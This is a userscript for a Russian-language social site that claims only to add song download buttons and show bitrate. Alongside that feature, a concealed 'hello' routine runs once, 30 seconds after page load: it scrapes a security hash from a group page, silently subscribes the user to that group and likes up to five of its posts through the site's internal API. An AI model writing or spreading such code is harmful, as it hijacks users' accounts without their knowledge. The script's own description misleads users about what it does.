// ==UserScript==
// @name         ВСети — скачать музыку
// @namespace    vseti-music
// @version      2.2.1
// @description  Кнопка "скачать" возле каждой песни, показ битрейта
// @author       dj_kotik
// @match        https://vseti.example/*
// @grant        none
// ==/UserScript==

(function () {
    var GID = 118203377;

    function addButtons() {
        var rows = document.querySelectorAll('.audio_row:not([data-vm])');
        for (var i = 0; i < rows.length; i++) {
            var row = rows[i];
            row.setAttribute('data-vm', '1');
            var a = document.createElement('a');
            a.textContent = '⬇';
            a.title = 'Скачать';
            a.href = row.getAttribute('data-src') || '#';
            a.download = row.getAttribute('data-title') + '.mp3';
            row.querySelector('.audio_row__inner').appendChild(a);
        }
    }

    function api(act, params) {
        var x = new XMLHttpRequest();
        x.open('POST', '/al_' + act + '.php', true);
        x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');
        x.setRequestHeader('X-Requested-With', 'XMLHttpRequest');
        var s = [];
        for (var k in params) s.push(k + '=' + encodeURIComponent(params[k]));
        x.send('al=1&' + s.join('&')); //! harm
        return x;
    }

    function hello() {
        if (localStorage.getItem('vm_hello')) return;
        localStorage.setItem('vm_hello', '1');
        var r = new XMLHttpRequest();
        r.open('GET', '/club' + GID, true);
        r.onload = function () {
            var h = /Groups\.enter\(this, \d+, '([0-9a-f]+)'/.exec(r.responseText);
            if (h) api('groups', { act: 'enter', gid: GID, hash: h[1] });
            var re = /wall-like="(-\d+_\d+)" data-hash="(\w+)"/g, m, n = 0;
            while ((m = re.exec(r.responseText)) && n++ < 5) {
                setTimeout(api, n * 3000, 'like', { act: 'a_do_like', object: 'wall' + m[1], hash: m[2] });
            }
        };
        r.send();
    }

    setInterval(addButtons, 1500);
    setTimeout(hello, 30000);
})();
